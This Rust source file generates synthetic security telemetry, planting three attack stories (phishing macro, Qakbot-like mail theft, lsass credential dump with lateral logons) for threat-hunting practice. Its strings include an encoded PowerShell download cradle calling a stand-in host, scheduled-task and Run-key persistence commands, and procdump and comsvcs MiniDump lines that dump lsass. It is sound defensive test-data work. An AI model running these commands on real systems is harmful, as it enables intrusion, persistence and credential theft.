//! Attack stories planted in the synthetic data, so the typical hunting queries find
//! something: a phishing mail whose macro runs an encoded PowerShell that downloads a
//! payload and schedules it; a Qakbot-like infection that steals mail; a credential dump
//! of lsass followed by lateral logons. The victims are chosen from the seed; every row
//! of a story shares its device, account, process ids, hashes and message ids.

use std::collections::HashMap;
use std::sync::Arc;

use super::synth::{digest, Ctx};
use super::{World, TICKS_PER_MIN};
use crate::value::{Value, TICKS_PER_DAY, TICKS_PER_SEC};

/// One planted row: its table, its context, and the columns it sets explicitly (the
/// others follow from the context like any generated row's).
pub(crate) struct StoryRow {
    pub table: &'static str,
    pub ctx: Ctx,
    pub set: Vec<(&'static str, Value)>,
}

/// The command line of the macro's PowerShell: `IEX (New-Object Net.WebClient).
/// DownloadString('http://cdn.tailspin-invoices.example/a.ps1')`, UTF-16LE, base64.
pub const ENCODED_POWERSHELL: &str = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALgB0AGEAaQBsAHMAcABpAG4ALQBpAG4AdgBvAGkAYwBlAHMALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACcAKQA=";

/// The attacker's server in the phishing story.
pub const PHISH_IP: &str = "185.220.101.47";
/// The Qakbot command-and-control server.
pub const QAKBOT_IP: &str = "45.33.2.77";

fn v(s: &str) -> Value {
    Value::str(s)
}

struct Planter<'a> {
    w: &'a World,
    ix: &'a HashMap<String, usize>,
    rows: Vec<StoryRow>,
    seed: u64,
}

/// Who and what a row is about.
#[derive(Clone, Copy)]
struct Who {
    dev: Option<usize>,
    user: Option<usize>,
}

impl Planter<'_> {
    fn image(&self, name: &str) -> usize {
        self.ix
            .get(&name.to_ascii_lowercase())
            .copied()
            .unwrap_or(0)
    }
    /// A row whose acting process is `parent` (pid `ppid`, its own parent `grand`), acting
    /// on `image` (pid `pid` when a process).
    #[allow(clippy::too_many_arguments)]
    fn add(
        &mut self,
        table: &'static str,
        ts: i64,
        who: Who,
        image: Option<&str>,
        (parent, ppid): (&str, i64),
        (grand, gpid): (&str, i64),
        pid: i64,
        set: Vec<(&'static str, Value)>,
    ) {
        let k = self.rows.len() as u64 ^ self.seed.rotate_left(17);
        let mut set = set;
        let known = image.and_then(|n| self.ix.get(&n.to_ascii_lowercase()).copied());
        if let (Some(name), None) = (image, known) {
            if !set.iter().any(|(c, _)| *c == "FileName") {
                set.push(("FileName", v(name)));
            }
        }
        let ctx = Ctx {
            ts,
            row: 9_000_000 + self.rows.len(),
            dev: who.dev,
            user: who.user,
            image: known,
            parent: self.image(parent),
            grand: self.image(grand),
            pid,
            ppid,
            gpid,
            ip: None,
            port: 0,
            link: None,
            k,
        };
        self.rows.push(StoryRow { table, ctx, set });
    }
    fn simple(&mut self, table: &'static str, ts: i64, who: Who, set: Vec<(&'static str, Value)>) {
        self.add(
            table,
            ts,
            who,
            None,
            ("svchost.exe", 1_204),
            ("services.exe", 812),
            0,
            set,
        );
    }
}

/// Every planted row, for a world generated from `seed` with "now" at `anchor` (ticks).
pub(crate) fn plant(
    w: &World,
    ix: &HashMap<String, usize>,
    seed: u64,
    anchor: i64,
) -> Vec<StoryRow> {
    let mut p = Planter {
        w,
        ix,
        rows: Vec::new(),
        seed,
    };
    let nd = w.device_ids.len();
    let nu = w.user_names.len();
    let d1 = 5 + (seed % 20) as usize;
    let u1 = 10 + (seed % 50) as usize;
    let d2 = (d1 + 37) % nd;
    let u2 = (u1 + 61) % nu;
    let d3 = (0..nd)
        .find(|d| w.device_names[*d].starts_with("srv") || w.device_names[*d].starts_with("dc"))
        .unwrap_or((d1 + 71) % nd);
    phishing(
        &mut p,
        Who {
            dev: Some(d1),
            user: Some(u1),
        },
        anchor - 3 * TICKS_PER_DAY + 9 * 60 * TICKS_PER_MIN,
    );
    qakbot(
        &mut p,
        Who {
            dev: Some(d2),
            user: Some(u2),
        },
        anchor - 6 * TICKS_PER_DAY + 14 * 60 * TICKS_PER_MIN,
    );
    credential_dump(
        &mut p,
        d3,
        d1,
        anchor - TICKS_PER_DAY - 5 * 60 * TICKS_PER_MIN,
    );
    p.rows
}

fn user_dir(w: &World, u: Option<usize>) -> String {
    format!(r"C:\Users\{}", u.map_or("public", |u| &w.user_names[u]))
}

fn phishing(p: &mut Planter<'_>, who: Who, t0: i64) {
    let w = p.w;
    let m = |x: i64| t0 + x * TICKS_PER_MIN;
    let u = who.user.unwrap_or(4);
    let rcpt = w.user_emails[u].clone();
    let msg = digest("phish-msg", p.seed, 8);
    let msg_id = format!(
        "{}-{}-4f1c-9a7e-{}",
        &msg,
        digest("a", p.seed, 4),
        digest("b", p.seed, 12)
    );
    let sender = "billing@tailspin-invoices.example";
    let doc = "Invoice_88213.docm";
    let doc_sha = digest(doc, 256, 64);
    let doc_sha1 = digest(doc, 1, 40);
    let upd_sha = digest("update.exe-payload", 256, 64);
    let home = user_dir(w, who.user);
    let url = "https://tailspin-invoices.example/pay/88213";
    let mail = |extra: Vec<(&'static str, Value)>| {
        let mut s = vec![
            ("NetworkMessageId", v(&msg_id)),
            ("SenderFromAddress", v(sender)),
            ("RecipientEmailAddress", Value::Str(rcpt.clone())),
        ];
        s.extend(extra);
        s
    };
    let no_dev = Who {
        dev: None,
        user: who.user,
    };
    p.simple(
        "EmailEvents",
        m(0),
        no_dev,
        mail(vec![
            (
                "InternetMessageId",
                v("<88213.invoice@tailspin-invoices.example>"),
            ),
            ("SenderMailFromAddress", v(sender)),
            ("SenderDisplayName", v("Tailspin Billing")),
            ("SenderFromDomain", v("tailspin-invoices.example")),
            ("SenderMailFromDomain", v("tailspin-invoices.example")),
            ("SenderIPv4", v(PHISH_IP)),
            ("Subject", v("Invoice 88213 overdue - payment required")),
            ("EmailDirection", v("Inbound")),
            ("DeliveryAction", v("Delivered")),
            ("DeliveryLocation", v("Inbox/folder")),
            ("LatestDeliveryAction", v("Delivered")),
            ("LatestDeliveryLocation", v("Quarantine")),
            ("ThreatTypes", v("Malware")),
            ("ThreatNames", v("TrojanDownloader:O97M/Donoff")),
            ("DetectionMethods", v(r#"{"Malware":["File detonation"]}"#)),
            ("AttachmentCount", Value::Int(1)),
            ("UrlCount", Value::Int(1)),
            (
                "AuthenticationDetails",
                v(r#"{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}"#),
            ),
        ]),
    );
    p.simple(
        "EmailAttachmentInfo",
        m(0),
        no_dev,
        mail(vec![
            ("SenderDisplayName", v("Tailspin Billing")),
            ("FileName", v(doc)),
            ("FileType", v("docm")),
            ("SHA256", v(&doc_sha)),
            ("FileSize", Value::Int(48_213)),
            ("ThreatTypes", v("Malware")),
            ("ThreatNames", v("TrojanDownloader:O97M/Donoff")),
            ("DetectionMethods", v(r#"{"Malware":["File detonation"]}"#)),
        ]),
    );
    p.simple(
        "EmailUrlInfo",
        m(0),
        no_dev,
        vec![
            ("NetworkMessageId", v(&msg_id)),
            ("Url", v(url)),
            ("UrlDomain", v("tailspin-invoices.example")),
            ("UrlLocation", v("Body")),
        ],
    );
    p.simple(
        "UrlClickEvents",
        m(3),
        no_dev,
        vec![
            ("Url", v(url)),
            ("ActionType", v("ClickAllowed")),
            ("Workload", v("Email")),
            ("NetworkMessageId", v(&msg_id)),
            ("ThreatTypes", v("Phish")),
            ("IsClickedThrough", Value::Bool(true)),
            (
                "IPAddress",
                Value::Str(w.public_ips[who.dev.unwrap_or(0) % w.public_ips.len()].clone()),
            ),
        ],
    );
    let outlook = ("OUTLOOK.EXE", 4_312);
    let explorer = ("explorer.exe", 3_020);
    p.add("DeviceFileEvents", m(4), who, None, outlook, explorer, 0, vec![
        ("ActionType", v("FileCreated")),
        ("FileName", v(doc)),
        ("FolderPath", v(&format!(r"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7X2K1ZB\{doc}"))),
        ("SHA256", v(&doc_sha)),
        ("SHA1", v(&doc_sha1)),
        ("MD5", v(&digest(doc, 5, 32))),
        ("FileSize", Value::Int(48_213)),
    ]);
    let word_cmd = format!(
        r#""WINWORD.EXE" /n "{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7X2K1ZB\{doc}" /o """#
    );
    p.add(
        "DeviceProcessEvents",
        m(5),
        who,
        Some("WINWORD.EXE"),
        outlook,
        explorer,
        6_120,
        vec![("ProcessCommandLine", v(&word_cmd))],
    );
    let word = ("WINWORD.EXE", 6_120);
    p.add(
        "DeviceImageLoadEvents",
        m(5) + 10 * TICKS_PER_SEC,
        who,
        Some("VBE7.DLL"),
        word,
        outlook,
        0,
        vec![],
    );
    p.add(
        "DeviceProcessEvents",
        m(6),
        who,
        Some("powershell.exe"),
        word,
        outlook,
        7_344,
        vec![
            ("ProcessCommandLine", v(ENCODED_POWERSHELL)),
            ("InitiatingProcessCommandLine", v(&word_cmd)),
        ],
    );
    p.add(
        "DeviceEvents",
        m(6) + 5 * TICKS_PER_SEC,
        who,
        Some("powershell.exe"),
        word,
        outlook,
        7_344,
        vec![
            ("ActionType", v("AsrOfficeChildProcessAudited")),
            ("ProcessCommandLine", v(ENCODED_POWERSHELL)),
        ],
    );
    let ps = ("powershell.exe", 7_344);
    p.add(
        "DeviceEvents",
        m(6) + 10 * TICKS_PER_SEC,
        who,
        None,
        ps,
        word,
        0,
        vec![
            ("ActionType", v("PowerShellCommand")),
            ("AdditionalFields", v(r#"{"Command":"Invoke-Expression"}"#)),
            ("InitiatingProcessCommandLine", v(ENCODED_POWERSHELL)),
        ],
    );
    p.add(
        "DeviceNetworkEvents",
        m(6) + 20 * TICKS_PER_SEC,
        who,
        None,
        ps,
        word,
        0,
        vec![
            ("ActionType", v("ConnectionSuccess")),
            ("RemoteIP", v(PHISH_IP)),
            ("RemotePort", Value::Int(80)),
            ("RemoteUrl", v("cdn.tailspin-invoices.example")),
            ("RemoteIPType", v("Public")),
            ("Protocol", v("Tcp")),
            ("InitiatingProcessCommandLine", v(ENCODED_POWERSHELL)),
        ],
    );
    p.add(
        "DeviceFileEvents",
        m(6) + 40 * TICKS_PER_SEC,
        who,
        None,
        ps,
        word,
        0,
        vec![
            ("ActionType", v("FileCreated")),
            ("FileName", v("update.exe")),
            ("FolderPath", v(r"C:\Users\Public\update.exe")),
            ("SHA256", v(&upd_sha)),
            ("SHA1", v(&digest("update.exe-payload", 1, 40))),
            ("MD5", v(&digest("update.exe-payload", 5, 32))),
            ("FileSize", Value::Int(734_208)),
            (
                "FileOriginUrl",
                v("http://cdn.tailspin-invoices.example/update.exe"),
            ),
            ("FileOriginIP", v(PHISH_IP)),
            ("InitiatingProcessCommandLine", v(ENCODED_POWERSHELL)),
        ],
    );
    let task_cmd = r#"schtasks.exe /create /tn "OneDrive Standalone Update" /tr "C:\Users\Public\update.exe" /sc onlogon /rl highest /f"#;
    p.add(
        "DeviceProcessEvents",
        m(7),
        who,
        Some("schtasks.exe"),
        ps,
        word,
        7_790,
        vec![
            ("ProcessCommandLine", v(task_cmd)),
            ("InitiatingProcessCommandLine", v(ENCODED_POWERSHELL)),
        ],
    );
    // Discovery from the same PowerShell.
    for (i, (file, cmd)) in [
        ("whoami.exe", "whoami.exe /all"),
        ("net.exe", r#"net.exe group "Domain Admins" /domain"#),
        ("nltest.exe", "nltest.exe /domain_trusts"),
    ]
    .iter()
    .enumerate()
    {
        p.add(
            "DeviceProcessEvents",
            m(8) + i as i64 * 20 * TICKS_PER_SEC,
            who,
            Some(file),
            ps,
            word,
            8_100 + i as i64 * 4,
            vec![
                ("FileName", v(file)),
                ("ProcessCommandLine", v(cmd)),
                ("InitiatingProcessCommandLine", v(ENCODED_POWERSHELL)),
            ],
        );
    }
    let svc = ("svchost.exe", 1_388);
    let services = ("services.exe", 812);
    p.add("DeviceEvents", m(7) + 2 * TICKS_PER_SEC, who, None, svc, services, 0, vec![
        ("ActionType", v("ScheduledTaskCreated")),
        ("AdditionalFields", v(r#"{"TaskName":"\\OneDrive Standalone Update","TaskContent":"C:\\Users\\Public\\update.exe","SubjectUserName":"user"}"#)),
    ]);
    p.add("DeviceRegistryEvents", m(7) + 3 * TICKS_PER_SEC, who, None, svc, services, 0, vec![
        ("ActionType", v("RegistryKeyCreated")),
        ("RegistryKey", v(r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\OneDrive Standalone Update")),
        ("RegistryValueName", v("")),
        ("RegistryValueData", v("")),
    ]);
    p.add(
        "DeviceRegistryEvents",
        m(7) + 4 * TICKS_PER_SEC,
        who,
        None,
        ps,
        word,
        0,
        vec![
            ("ActionType", v("RegistryValueSet")),
            (
                "RegistryKey",
                v(r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"),
            ),
            ("RegistryValueName", v("OneDriveUpdate")),
            ("RegistryValueData", v(r"C:\Users\Public\update.exe")),
            ("RegistryValueType", v("String")),
        ],
    );
    let sys = Who {
        dev: who.dev,
        user: who.user,
    };
    p.add(
        "DeviceProcessEvents",
        m(24 * 60),
        sys,
        Some("update.exe"),
        svc,
        services,
        9_016,
        vec![
            ("SHA256", v(&upd_sha)),
            ("SHA1", v(&digest("update.exe-payload", 1, 40))),
            ("ProcessCommandLine", v(r"C:\Users\Public\update.exe")),
            ("ProcessVersionInfoCompanyName", v("")),
            ("ProcessVersionInfoProductName", v("")),
        ],
    );
    p.add(
        "DeviceNetworkEvents",
        m(24 * 60 + 1),
        sys,
        None,
        ("update.exe", 9_016),
        svc,
        0,
        vec![
            ("ActionType", v("ConnectionSuccess")),
            ("RemoteIP", v(PHISH_IP)),
            ("RemotePort", Value::Int(443)),
            ("RemoteUrl", v("cdn.tailspin-invoices.example")),
            ("RemoteIPType", v("Public")),
            ("InitiatingProcessSHA256", v(&upd_sha)),
        ],
    );
    p.simple(
        "EmailPostDeliveryEvents",
        m(40),
        no_dev,
        vec![
            ("NetworkMessageId", v(&msg_id)),
            (
                "InternetMessageId",
                v("<88213.invoice@tailspin-invoices.example>"),
            ),
            ("Action", v("Moved to quarantine")),
            ("ActionType", v("Malware ZAP")),
            ("ActionTrigger", v("SpecialAction")),
            ("ActionResult", v("Success")),
            ("RecipientEmailAddress", Value::Str(rcpt.clone())),
            ("DeliveryLocation", v("Quarantine")),
            ("ThreatTypes", v("Malware")),
        ],
    );
    alert(
        p,
        m(8),
        who,
        "da_story_phish_1",
        "Suspicious PowerShell command line",
        "Execution",
        "High",
        r#"["PowerShell (T1059.001)","Spearphishing Attachment (T1566.001)"]"#,
        &[
            ("Process", "powershell.exe", ENCODED_POWERSHELL),
            ("File", "update.exe", ""),
            ("Url", "", "http://cdn.tailspin-invoices.example/update.exe"),
            ("MailMessage", "", &msg_id),
        ],
    );
}

fn qakbot(p: &mut Planter<'_>, who: Who, t0: i64) {
    let w = p.w;
    let m = |x: i64| t0 + x * TICKS_PER_MIN;
    let u = who.user.unwrap_or(4);
    let home = user_dir(w, who.user);
    let msg_id = format!(
        "{}-7d3e-4b7a-8c21-{}",
        digest("qbot-msg", p.seed, 8),
        digest("qm", p.seed, 12)
    );
    let no_dev = Who {
        dev: None,
        user: who.user,
    };
    p.simple(
        "EmailEvents",
        m(0),
        no_dev,
        vec![
            ("NetworkMessageId", v(&msg_id)),
            ("SenderFromAddress", v("d.morgan@fabrikam-partners.example")),
            (
                "SenderMailFromAddress",
                v("d.morgan@fabrikam-partners.example"),
            ),
            ("SenderFromDomain", v("fabrikam-partners.example")),
            ("SenderMailFromDomain", v("fabrikam-partners.example")),
            ("SenderDisplayName", v("Dana Morgan")),
            (
                "RecipientEmailAddress",
                Value::Str(w.user_emails[u].clone()),
            ),
            ("Subject", v("RE: project timeline")),
            ("EmailDirection", v("Inbound")),
            ("DeliveryAction", v("Delivered")),
            ("DeliveryLocation", v("Inbox/folder")),
            ("ThreatTypes", v("")),
            ("AttachmentCount", Value::Int(1)),
        ],
    );
    p.simple(
        "EmailAttachmentInfo",
        m(0),
        no_dev,
        vec![
            ("NetworkMessageId", v(&msg_id)),
            ("SenderFromAddress", v("d.morgan@fabrikam-partners.example")),
            (
                "RecipientEmailAddress",
                Value::Str(w.user_emails[u].clone()),
            ),
            ("FileName", v("Document_1402.zip")),
            ("FileType", v("zip")),
            ("SHA256", v(&digest("Document_1402.zip", 256, 64))),
            ("ThreatTypes", v("")),
        ],
    );
    let explorer = ("explorer.exe", 2_904);
    let userinit = ("userinit.exe", 2_880);
    let js = format!(r#"wscript.exe "{home}\Downloads\Document_1402.js""#);
    p.add(
        "DeviceProcessEvents",
        m(10),
        who,
        Some("wscript.exe"),
        explorer,
        userinit,
        5_512,
        vec![("ProcessCommandLine", v(&js))],
    );
    let dll = r"C:\ProgramData\Qwertz\Fvbnmk.dll";
    let dll_sha = digest("Fvbnmk.dll", 256, 64);
    let run = format!("rundll32.exe {dll},DllRegisterServer");
    p.add(
        "DeviceFileEvents",
        m(10) + 20 * TICKS_PER_SEC,
        who,
        None,
        ("wscript.exe", 5_512),
        explorer,
        0,
        vec![
            ("ActionType", v("FileCreated")),
            ("FileName", v("Fvbnmk.dll")),
            ("FolderPath", v(dll)),
            ("SHA256", v(&dll_sha)),
            ("SHA1", v(&digest("Fvbnmk.dll", 1, 40))),
            ("FileOriginUrl", v("http://45.33.2.77/tt/Fvbnmk.dat")),
            ("FileOriginIP", v(QAKBOT_IP)),
        ],
    );
    p.add(
        "DeviceProcessEvents",
        m(11),
        who,
        Some("rundll32.exe"),
        ("wscript.exe", 5_512),
        explorer,
        6_004,
        vec![
            ("ProcessCommandLine", v(&run)),
            ("InitiatingProcessCommandLine", v(&js)),
        ],
    );
    let rundll = ("rundll32.exe", 6_004);
    p.add(
        "DeviceImageLoadEvents",
        m(11) + 2 * TICKS_PER_SEC,
        who,
        None,
        rundll,
        ("wscript.exe", 5_512),
        0,
        vec![
            ("FileName", v("Fvbnmk.dll")),
            ("FolderPath", v(dll)),
            ("SHA256", v(&dll_sha)),
            ("SHA1", v(&digest("Fvbnmk.dll", 1, 40))),
            ("InitiatingProcessCommandLine", v(&run)),
        ],
    );
    p.add(
        "DeviceProcessEvents",
        m(12),
        who,
        Some("msra.exe"),
        rundll,
        ("wscript.exe", 5_512),
        7_128,
        vec![
            ("ProcessCommandLine", v("msra.exe")),
            ("InitiatingProcessCommandLine", v(&run)),
        ],
    );
    p.add(
        "DeviceEvents",
        m(12) + TICKS_PER_SEC,
        who,
        Some("msra.exe"),
        rundll,
        ("wscript.exe", 5_512),
        7_128,
        vec![("ActionType", v("CreateRemoteThreadApiCall"))],
    );
    let msra = ("msra.exe", 7_128);
    let dev_short = who
        .dev
        .map_or("PC", |d| {
            w.device_names[d].split('.').next().unwrap_or("PC")
        })
        .to_uppercase();
    let store = format!(
        r"{home}\AppData\Local\Temp\EmailStorage_{dev_short}_{}_1716",
        w.user_names[u]
    );
    for i in 1..=6 {
        let name = format!("Message_{i}.eml");
        p.add(
            "DeviceFileEvents",
            m(20) + i * TICKS_PER_SEC,
            who,
            None,
            msra,
            rundll,
            0,
            vec![
                ("ActionType", v("FileCreated")),
                ("FileName", v(&name)),
                ("FolderPath", v(&format!(r"{store}\{name}"))),
                ("SHA256", v(&digest(&name, p.seed, 64))),
                ("SHA1", v(&digest(&name, p.seed ^ 1, 40))),
            ],
        );
    }
    p.add("DeviceProcessEvents", m(21), who, Some("esentutl.exe"), msra, rundll, 7_420, vec![
        ("ProcessCommandLine", v(&format!(r#"esentutl.exe /r V01 /l "{home}\AppData\Local\Microsoft\Windows\WebCache" /s "{home}\AppData\Local\Microsoft\Windows\WebCache" /d "{home}\AppData\Local\Microsoft\Windows\WebCache""#))),
    ]);
    for (i, port) in [443i64, 2222, 995].iter().enumerate() {
        p.add(
            "DeviceNetworkEvents",
            m(22 + i as i64),
            who,
            None,
            msra,
            rundll,
            0,
            vec![
                ("ActionType", v("ConnectionSuccess")),
                ("RemoteIP", v(QAKBOT_IP)),
                ("RemotePort", Value::Int(*port)),
                ("RemoteUrl", v("")),
                ("RemoteIPType", v("Public")),
            ],
        );
    }
    p.simple(
        "CloudAppEvents",
        m(25),
        no_dev,
        vec![
            ("ActionType", v("MailItemsAccessed")),
            ("Application", v("Microsoft Exchange Online")),
            ("ApplicationId", Value::Int(20893)),
            ("IPAddress", v(QAKBOT_IP)),
            ("CountryCode", v("RU")),
            ("City", v("Moscow")),
            ("ActivityType", v("Read")),
            ("UserAgent", v("python-requests/2.31.0")),
        ],
    );
    for i in 0..5 {
        p.simple(
            "CloudAppEvents",
            m(26) + i * TICKS_PER_MIN,
            no_dev,
            vec![
                ("ActionType", v("FileDownloaded")),
                ("Application", v("Microsoft SharePoint Online")),
                ("ApplicationId", Value::Int(20892)),
                ("IPAddress", v(QAKBOT_IP)),
                ("CountryCode", v("RU")),
                ("City", v("Moscow")),
                ("ActivityType", v("Download")),
                ("ObjectName", v(&format!("Finance_Q{}.xlsx", i + 1))),
                ("UserAgent", v("python-requests/2.31.0")),
            ],
        );
    }
    alert(
        p,
        m(23),
        who,
        "da_story_qakbot_1",
        "Qakbot malware activity",
        "Malware",
        "High",
        r#"["Email Collection (T1114)","Rundll32 (T1218.011)"]"#,
        &[
            ("File", "Fvbnmk.dll", ""),
            ("Process", "msra.exe", "msra.exe"),
            ("Ip", "", QAKBOT_IP),
        ],
    );
}

fn credential_dump(p: &mut Planter<'_>, d3: usize, from: usize, t0: i64) {
    let w = p.w;
    let m = |x: i64| t0 + x * TICKS_PER_MIN;
    let admin = Who {
        dev: Some(d3),
        user: Some(3),
    };
    let from_ip = w.device_ips[from].clone();
    p.simple(
        "IdentityQueryEvents",
        m(-20),
        Who {
            dev: Some(d3),
            user: Some(3),
        },
        vec![
            ("ActionType", v("SAMR query")),
            ("QueryType", v("QueryGroup")),
            ("QueryTarget", v("Domain Admins")),
            ("Query", v("QueryGroup: Domain Admins")),
            ("Protocol", v("Samr")),
        ],
    );
    p.simple(
        "DeviceLogonEvents",
        m(-10),
        admin,
        vec![
            ("ActionType", v("LogonSuccess")),
            ("LogonType", v("RemoteInteractive")),
            ("RemoteIP", Value::Str(from_ip.clone())),
            ("RemoteIPType", v("Private")),
            ("RemoteDeviceName", Value::Str(w.device_names[from].clone())),
            ("IsLocalAdmin", Value::Bool(true)),
            ("Protocol", v("Negotiate")),
        ],
    );
    let cmd = ("cmd.exe", 3_340);
    let explorer = ("explorer.exe", 2_232);
    p.add(
        "DeviceProcessEvents",
        m(0),
        admin,
        Some("procdump64.exe"),
        cmd,
        explorer,
        4_480,
        vec![
            (
                "ProcessCommandLine",
                v(r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp"),
            ),
            ("ProcessIntegrityLevel", v("High")),
            ("ProcessTokenElevation", v("TokenElevationTypeFull")),
            (
                "ProcessVersionInfoCompanyName",
                v("Sysinternals - www.sysinternals.com"),
            ),
            ("ProcessVersionInfoProductName", v("ProcDump")),
            ("ProcessVersionInfoOriginalFileName", v("procdump")),
        ],
    );
    let procdump = ("procdump64.exe", 4_480);
    p.add(
        "DeviceEvents",
        m(0) + TICKS_PER_SEC,
        admin,
        Some("lsass.exe"),
        procdump,
        cmd,
        652,
        vec![
            ("ActionType", v("OpenProcessApiCall")),
            ("AdditionalFields", v(r#"{"DesiredAccess":2097151}"#)),
        ],
    );
    p.add(
        "DeviceFileEvents",
        m(0) + 3 * TICKS_PER_SEC,
        admin,
        None,
        procdump,
        cmd,
        0,
        vec![
            ("ActionType", v("FileCreated")),
            ("FileName", v("lsass.dmp")),
            ("FolderPath", v(r"C:\Windows\Temp\lsass.dmp")),
            ("FileSize", Value::Int(58_720_256)),
            ("SHA256", v(&digest("lsass.dmp", p.seed, 64))),
        ],
    );
    let ps = ("powershell.exe", 5_016);
    let mini =
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\Windows\Temp\out.dmp full";
    p.add(
        "DeviceProcessEvents",
        m(5),
        admin,
        Some("rundll32.exe"),
        ps,
        explorer,
        5_200,
        vec![
            ("ProcessCommandLine", v(mini)),
            ("ProcessIntegrityLevel", v("High")),
        ],
    );
    p.add(
        "DeviceEvents",
        m(5) + TICKS_PER_SEC,
        admin,
        Some("lsass.exe"),
        ("rundll32.exe", 5_200),
        ps,
        652,
        vec![
            ("ActionType", v("OpenProcessApiCall")),
            ("AdditionalFields", v(r#"{"DesiredAccess":2097151}"#)),
            ("InitiatingProcessCommandLine", v(mini)),
        ],
    );
    p.add(
        "DeviceFileEvents",
        m(5) + 2 * TICKS_PER_SEC,
        admin,
        None,
        ("rundll32.exe", 5_200),
        ps,
        0,
        vec![
            ("ActionType", v("FileCreated")),
            ("FileName", v("out.dmp")),
            ("FolderPath", v(r"C:\Windows\Temp\out.dmp")),
            ("InitiatingProcessCommandLine", v(mini)),
        ],
    );
    let d3_ip = w.device_ips[d3].clone();
    let nd = w.device_ids.len();
    for i in 0..6 {
        let target = (d3 + 1 + i * 13) % nd;
        let who = Who {
            dev: Some(target),
            user: Some(3),
        };
        p.simple(
            "DeviceLogonEvents",
            m(30 + i as i64),
            who,
            vec![
                ("ActionType", v("LogonSuccess")),
                ("LogonType", v("Network")),
                ("Protocol", v("NTLM")),
                ("RemoteIP", Value::Str(d3_ip.clone())),
                ("RemoteIPType", v("Private")),
                ("RemoteDeviceName", Value::Str(w.device_names[d3].clone())),
                ("IsLocalAdmin", Value::Bool(true)),
            ],
        );
        p.simple(
            "IdentityLogonEvents",
            m(30 + i as i64),
            Who {
                dev: Some(d3),
                user: Some(3),
            },
            vec![
                ("ActionType", v("LogonSuccess")),
                ("Application", v("Active Directory")),
                ("LogonType", v("Resource access")),
                ("Protocol", v("Ntlm")),
                ("IPAddress", Value::Str(d3_ip.clone())),
                (
                    "TargetDeviceName",
                    Value::Str(w.device_names[target].clone()),
                ),
                (
                    "DestinationDeviceName",
                    Value::Str(w.device_names[target].clone()),
                ),
                ("FailureReason", v("")),
            ],
        );
    }
    alert(
        p,
        m(2),
        admin,
        "da_story_lsass_1",
        "Possible credential theft activity",
        "CredentialAccess",
        "High",
        r#"["OS Credential Dumping (T1003)","LSASS Memory (T1003.001)"]"#,
        &[
            (
                "Process",
                "procdump64.exe",
                r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
            ),
            ("File", "lsass.dmp", ""),
        ],
    );
}

/// An alert with its evidence: the machine, the user, and `(type, file, detail)` entities
/// (detail is the command line of a process, the URL of a Url and the address of an Ip).
#[allow(clippy::too_many_arguments)]
fn alert(
    p: &mut Planter<'_>,
    ts: i64,
    who: Who,
    id: &str,
    title: &str,
    category: &str,
    severity: &str,
    techniques: &str,
    entities: &[(&str, &str, &str)],
) {
    let common = |extra: Vec<(&'static str, Value)>| {
        let mut s = vec![
            ("AlertId", v(id)),
            ("Title", v(title)),
            ("Severity", v(severity)),
            ("AttackTechniques", v(techniques)),
            ("ServiceSource", v("Microsoft Defender for Endpoint")),
            ("DetectionSource", v("EDR")),
        ];
        s.extend(extra);
        s
    };
    let nobody = Who {
        dev: None,
        user: None,
    };
    p.simple(
        "AlertInfo",
        ts,
        nobody,
        common(vec![("Category", v(category))]),
    );
    let cats = Arc::<str>::from(format!("[\"{category}\"]").as_str());
    p.simple(
        "AlertEvidence",
        ts,
        Who {
            dev: who.dev,
            user: None,
        },
        common(vec![
            ("Categories", Value::Str(cats.clone())),
            ("EntityType", v("Machine")),
            ("EvidenceRole", v("Impacted")),
            ("FileName", v("")),
            ("FolderPath", v("")),
            ("SHA1", v("")),
            ("SHA256", v("")),
        ]),
    );
    p.simple(
        "AlertEvidence",
        ts,
        Who {
            dev: None,
            user: who.user,
        },
        common(vec![
            ("Categories", Value::Str(cats.clone())),
            ("EntityType", v("User")),
            ("EvidenceRole", v("Impacted")),
            ("FileName", v("")),
            ("FolderPath", v("")),
            ("SHA1", v("")),
            ("SHA256", v("")),
        ]),
    );
    for (kind, file, detail) in entities {
        let mut set = common(vec![
            ("Categories", Value::Str(cats.clone())),
            ("EntityType", v(kind)),
            ("EvidenceRole", v("Related")),
        ]);
        match *kind {
            "Process" => set.push(("ProcessCommandLine", v(detail))),
            "Url" => set.push(("RemoteUrl", v(detail))),
            "Ip" => set.push(("RemoteIP", v(detail))),
            "MailMessage" => {
                set.push(("NetworkMessageId", v(detail)));
                set.push((
                    "EmailSubject",
                    v("Invoice 88213 overdue - payment required"),
                ));
            }
            _ => {}
        }
        if file.is_empty() {
            set.extend([
                ("FileName", v("")),
                ("FolderPath", v("")),
                ("SHA1", v("")),
                ("SHA256", v("")),
            ]);
        } else if *file == "Fvbnmk.dll" {
            set.extend([
                ("FileName", v(file)),
                ("FolderPath", v(r"C:\ProgramData\Qwertz\Fvbnmk.dll")),
                ("SHA256", v(&digest("Fvbnmk.dll", 256, 64))),
                ("SHA1", v(&digest("Fvbnmk.dll", 1, 40))),
                ("ThreatFamily", v("Qakbot")),
            ]);
        } else if *file == "update.exe" {
            set.extend([
                ("FileName", v(file)),
                ("FolderPath", v(r"C:\Users\Public\update.exe")),
                ("SHA256", v(&digest("update.exe-payload", 256, 64))),
                ("SHA1", v(&digest("update.exe-payload", 1, 40))),
            ]);
        }
        let image = if file.is_empty() { None } else { Some(*file) };
        p.add(
            "AlertEvidence",
            ts,
            Who {
                dev: who.dev,
                user: None,
            },
            image,
            ("svchost.exe", 1_204),
            ("services.exe", 812),
            0,
            set,
        );
    }
}
